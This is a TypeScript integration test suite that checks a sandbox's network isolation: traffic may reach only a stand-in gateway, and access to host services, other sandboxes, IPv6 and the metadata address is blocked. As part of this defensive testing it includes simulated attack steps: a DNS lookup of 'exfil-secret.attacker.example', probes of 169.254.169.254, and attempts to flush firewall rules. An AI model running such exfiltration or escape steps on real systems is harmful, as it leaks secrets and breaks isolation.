/**
 * Sandbox networking against real sandboxes (launchSandbox + --netns) and a stand-in gateway:
 * the gateway's four ports are reachable and see the sandbox's own address; 80/443/53 to any
 * address land on the gateway; everything else fails (egress attacks 15–17, sandbox escapes).
 * Public addresses below never see a packet: inside the sandbox they are DNATed to the stand-in
 * gateway or dropped before leaving its namespace, and the host forwards nothing from a sandbox.
 */
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { execFile, execFileSync } from "node:child_process";
import { promisify } from "node:util";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Server } from "node:net";
import type { NetworkManager, SandboxNetwork } from "../../src/providers/local/network.ts";
import { hostsFile, openNetworkManager, resolvConf } from "../../src/providers/local/network.ts";
import type { Fixture } from "../native/helpers.ts";
import { rootOnly, startSandbox } from "../native/helpers.ts";
import type { Hit, Ports, StandIn } from "./helpers.ts";
import { PROBE, freePorts, hostObjects, listenTcp, startStandInGateway, testScope } from "./helpers.ts";
import { until } from "../helpers/wait.ts";

const run = promisify(execFile);

void describe("sandbox network: only the gateway is reachable", rootOnly, () => {
  const scope = testScope();
  let ports: Ports;
  let hostPort: number; // a host service on 127.0.0.1
  let controlPort: number; // stand-in control plane API on 0.0.0.0
  let mgr: NetworkManager;
  let gw: StandIn;
  let hostHits: Hit[];
  let hostServers: Server[] = [];
  let a: Fixture;
  let b: Fixture;
  let netA: SandboxNetwork;
  let netB: SandboxNetwork;
  let etc: string;

  const probe = async (fx: Fixture, kind: string, host: string, port: number, timeout = 3): Promise<string> =>
    (await fx.run(["python3", "-c", PROBE, kind, host, String(port), String(timeout)])).out.trim();

  before(async () => {
    const [proxyPort, httpPort, httpsPort, dnsPort, postgresPort, hp, cp] = (await freePorts(7)) as [number, number, number, number, number, number, number];
    ports = { proxyPort, httpPort, httpsPort, dnsPort, postgresPort };
    hostPort = hp;
    controlPort = cp;
    mgr = await openNetworkManager({ scope, ports });
    gw = await startStandInGateway(mgr.gatewayIp, ports);
    hostHits = [];
    hostServers = await listenTcp(
      [
        { name: "host-loopback", host: "127.0.0.1", port: hostPort },
        { name: "control-plane", host: "0.0.0.0", port: controlPort },
      ],
      hostHits,
    );
    [netA, netB] = await Promise.all([mgr.acquire("sbx-a"), mgr.acquire("sbx-b")]);
    etc = mkdtempSync("/tmp/paddock-net-etc-");
    writeFileSync(join(etc, "resolv.conf"), resolvConf(mgr.gatewayIp));
    writeFileSync(join(etc, "hosts"), hostsFile("sbx"));
    const roBinds = [
      { src: join(etc, "resolv.conf"), dst: "/etc/resolv.conf" },
      { src: join(etc, "hosts"), dst: "/etc/hosts" },
    ];
    [a, b] = await Promise.all([
      startSandbox({ mode: "session", launch: { netns: netA.netnsPath, roBinds } }),
      startSandbox({ mode: "session", launch: { netns: netB.netnsPath, roBinds } }),
    ]);
  });

  after(async () => {
    await a?.stop();
    await b?.stop();
    await gw?.close();
    await Promise.all(hostServers.map((s) => new Promise((r) => s.close(r))));
    await mgr?.close({ removeHostObjects: true });
    if (etc) rmSync(etc, { recursive: true, force: true });
    assert.deepEqual(hostObjects(scope), [], "no netns, veth, gateway interface or table left");
    assert.doesNotMatch(execFileSync("ip", ["route", "show", "table", "all"], { encoding: "utf8" }), new RegExp(`${mgr.subnet.replace(/\./g, "\\.")}`));
  });

  void it("gives each sandbox its own address, eth0 and lo, and no IPv6 but ::1", async () => {
    assert.notEqual(netA.sandboxIp, netB.sandboxIp);
    const addrs = (await a.run(["ip", "-o", "addr"])).out;
    assert.match(addrs, new RegExp(`eth0\\s+inet ${netA.sandboxIp.replace(/\./g, "\\.")}/32`));
    assert.match(addrs, /lo\s+inet 127\.0\.0\.1\/8/);
    const v6 = (await a.run(["cat", "/proc/net/if_inet6"])).out.trim().split("\n");
    assert.deepEqual(
      v6.map((l) => l.split(/\s+/).pop()),
      ["lo"],
      "only ::1",
    );
    assert.match((await a.run(["ip", "route"])).out, new RegExp(`default via ${mgr.gatewayIp.replace(/\./g, "\\.")} dev eth0`));
  });

  void it("reaches the gateway's four ports, which see the sandbox's own address", async () => {
    for (const [name, port] of [
      ["proxy", ports.proxyPort],
      ["http", ports.httpPort],
      ["https", ports.httpsPort],
      ["dns-tcp", ports.dnsPort],
    ] as const) {
      assert.equal(await probe(a, "tcp", mgr.gatewayIp, port), `OK ${name} ${netA.sandboxIp}`, name);
    }
    assert.equal(await probe(a, "udp", mgr.gatewayIp, ports.dnsPort), `OK dns-udp ${netA.sandboxIp}`);
    assert.equal(await probe(b, "tcp", mgr.gatewayIp, ports.proxyPort), `OK proxy ${netB.sandboxIp}`, "B is told apart from A");
  });

  void it("TCP 80/443 to any address lands on the gateway's http/https listeners (attack 16)", async () => {
    assert.equal(await probe(a, "tcp", "93.184.216.34", 443), `OK https ${netA.sandboxIp}`);
    assert.equal(await probe(a, "tcp", "93.184.216.34", 80), `OK http ${netA.sandboxIp}`);
    assert.equal(await probe(a, "tcp", "1.1.1.1", 443), `OK https ${netA.sandboxIp}`);
    // The metadata address is DNATed to the gateway too, which judges it by policy (invariant 3).
    assert.equal(await probe(a, "tcp", "169.254.169.254", 80), `OK http ${netA.sandboxIp}`);
    assert.equal(await probe(a, "tcp", mgr.gatewayIp, 443), `OK https ${netA.sandboxIp}`);
  });

  void it("TCP 5432 to the gateway's address lands on its Postgres listener; 5432 elsewhere does not", async () => {
    assert.equal(await probe(a, "tcp", mgr.gatewayIp, 5432), `OK postgres ${netA.sandboxIp}`);
    assert.equal(await probe(b, "tcp", mgr.gatewayIp, 5432), `OK postgres ${netB.sandboxIp}`, "B is told apart from A");
    const before = gw.hits.filter((h) => h.listener === "postgres").length;
    assert.equal(await probe(a, "tcp", "93.184.216.34", 5432), "ERR EHOSTUNREACH");
    assert.equal(await probe(a, "tcp", "10.0.0.1", 5432), "ERR EHOSTUNREACH");
    assert.equal(gw.hits.filter((h) => h.listener === "postgres").length, before, "only the gateway's own address is DNATed");
  });

  void it("DNS to any resolver lands on the gateway's DNS listener (attack 15)", async () => {
    assert.equal(await probe(a, "udp", "8.8.8.8", 53), `OK dns-udp ${netA.sandboxIp}`);
    assert.equal(await probe(a, "tcp", "8.8.8.8", 53), `OK dns-tcp ${netA.sandboxIp}`);
    assert.equal(await probe(a, "udp", mgr.gatewayIp, 53), `OK dns-udp ${netA.sandboxIp}`);
    const before = gw.hits.filter((h) => h.listener === "dns-udp").length;
    await a.run(["getent", "hosts", "exfil-secret.attacker.example"], { timeoutMs: 1500 }); // the stand-in never answers real DNS
    assert.ok(gw.hits.filter((h) => h.listener === "dns-udp").length > before, "resolv.conf points at the gateway");
  });

  void it("everything else fails at once: other ports, other UDP, public IPs, metadata ports (attacks 16, 17)", async () => {
    const cases: [string, string, number][] = [
      ["tcp", mgr.gatewayIp, controlPort],
      ["tcp", mgr.gatewayIp, 22],
      ["udp", mgr.gatewayIp, ports.proxyPort],
      ["tcp", "93.184.216.34", 22],
      ["tcp", "93.184.216.34", 5432],
      ["tcp", "93.184.216.34", 8080],
      ["udp", "93.184.216.34", 443],
      ["udp", "8.8.8.8", 123],
      ["tcp", "169.254.169.254", 8080],
      ["tcp", "192.0.2.2", controlPort],
      ["tcp", "10.0.0.1", 5432],
    ];
    for (const [kind, host, port] of cases) assert.equal(await probe(a, kind, host, port), kind === "tcp" ? "ERR EHOSTUNREACH" : "ERR EPERM", `${kind} ${host}:${port}`);
    assert.deepEqual(
      gw.hits.filter((h) => !["proxy", "http", "https", "dns-tcp", "dns-udp", "postgres"].includes(h.listener)),
      [],
    );
  });

  void it("the host's 127.0.0.1 services and the control plane port are unreachable (attack 17)", async () => {
    const n = hostHits.length;
    assert.equal(await probe(a, "tcp", "127.0.0.1", hostPort), "ERR ECONNREFUSED", "127.0.0.1 is the sandbox's own loopback");
    assert.equal(await probe(a, "tcp", "127.0.0.1", controlPort), "ERR ECONNREFUSED");
    assert.equal(await probe(a, "tcp", mgr.gatewayIp, hostPort), "ERR EHOSTUNREACH");
    assert.equal(hostHits.length, n, "no host listener saw a connection");
  });

  void it("another sandbox is unreachable, though the host can reach it", async () => {
    await b.sh("nohup python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 &");
    // B's server is up (the host may reach sandboxes, e.g. for previews): polled, not slept on.
    await until(async () => {
      const r = await run("curl", ["-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "2", `http://${netB.sandboxIp}:8000/`]).catch(() => ({ stdout: "" }));
      return r.stdout === "200";
    }, 30_000, `python's http.server in sandbox B to answer 200 on ${netB.sandboxIp}:8000 from the host`);
    assert.equal(await probe(a, "tcp", netB.sandboxIp, 8000), "ERR EHOSTUNREACH");
    assert.equal(await probe(a, "udp", netB.sandboxIp, 8000), "ERR EPERM");
    assert.equal(await probe(a, "tcp", netB.sandboxIp, 443), `OK https ${netA.sandboxIp}`, "443 to B lands on the gateway, not on B");
  });

  void it("ICMP and IPv6 go nowhere", async () => {
    // Allow ICMP datagram sockets in A's netns (test only), so the rules, not the socket type, refuse.
    execFileSync("nsenter", [`--net=${netA.netnsPath}`, "sh", "-c", "echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range"]);
    assert.equal(await probe(a, "icmp", "127.0.0.1", 0), "OK echo", "ICMP sockets work (loopback)");
    assert.equal(await probe(a, "icmp", mgr.gatewayIp, 0), "ERR EPERM");
    assert.equal(await probe(a, "icmp", "93.184.216.34", 0), "ERR EPERM");
    assert.equal(await probe(a, "icmp", netB.sandboxIp, 0), "ERR EPERM");
    for (const host of ["2606:4700:4700::1111", "fd00::2", "fe80::1%eth0"]) {
      for (const port of [443, 22]) assert.match(await probe(a, "tcp", host, port), /^ERR (ENETUNREACH|EADDRNOTAVAIL|EINVAL)$/, `${host} ${port}`);
      assert.match(await probe(a, "udp", host, 53), /^ERR (ENETUNREACH|EADDRNOTAVAIL|EINVAL)$/, host);
    }
    // A v4-mapped v6 address is IPv4 on the wire, so it gets IPv4's treatment.
    assert.equal(await probe(a, "tcp", "::ffff:93.184.216.34", 443), `OK https ${netA.sandboxIp}`);
    assert.equal(await probe(a, "tcp", "::ffff:93.184.216.34", 22), "ERR EHOSTUNREACH");
  });

  void it("the sandbox cannot change its network (no CAP_NET_ADMIN over its netns)", async () => {
    assert.notEqual((await a.run(["nft", "list", "ruleset"])).code, 0);
    assert.notEqual((await a.run(["nft", "flush", "ruleset"])).code, 0);
    assert.notEqual((await a.run(["ip", "link", "set", "eth0", "down"])).code, 0);
    assert.notEqual((await a.run(["ip", "route", "add", "1.2.3.4/32", "dev", "eth0"])).code, 0);
    assert.notEqual((await a.run(["ip", "addr", "add", `${netB.sandboxIp}/32`, "dev", "eth0"])).code, 0);
    assert.equal(await probe(a, "tcp", "93.184.216.34", 22), "ERR EHOSTUNREACH", "rules still in place");
  });

  void it("the host table alone blocks a sandbox whose own rules are gone (defence in depth)", async () => {
    const c = await mgr.acquire("sbx-c");
    try {
      execFileSync("nsenter", [`--net=${c.netnsPath}`, "nft", "flush", "ruleset"]);
      // A non-root process in C's netns, probing only addresses on this machine.
      // (async: the stand-in gateway lives in this process and must keep answering)
      const bare = async (host: string, port: number): Promise<string> =>
        (
          await run("nsenter", [`--net=${c.netnsPath}`, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", PROBE, "tcp", host, String(port), "1"])
        ).stdout.trim();
      assert.equal(await bare(mgr.gatewayIp, ports.proxyPort), `OK proxy ${c.sandboxIp}`);
      const n = hostHits.length;
      assert.equal(await bare(mgr.gatewayIp, controlPort), "ERR timeout", "host input drops other ports");
      assert.equal(await bare("192.0.2.2", controlPort), "ERR timeout", "and the host's other addresses");
      assert.equal(await bare(netA.sandboxIp, 22), "ERR timeout", "nothing is forwarded to another sandbox");
      assert.equal(hostHits.length, n);
    } finally {
      await mgr.release("sbx-c");
    }
  });

  void it("list and leaks name the sandboxes that hold networks", async () => {
    assert.deepEqual(await mgr.list(), ["sbx-a", "sbx-b"]);
    assert.deepEqual(await mgr.leaks(new Set(["sbx-a", "sbx-b"])), []);
    const leaks = await mgr.leaks(new Set(["sbx-a"]));
    assert.equal(leaks.length, 1);
    assert.match(leaks[0] ?? "", new RegExp(`sbx-b.*${netB.hostIface}`));
  });
});
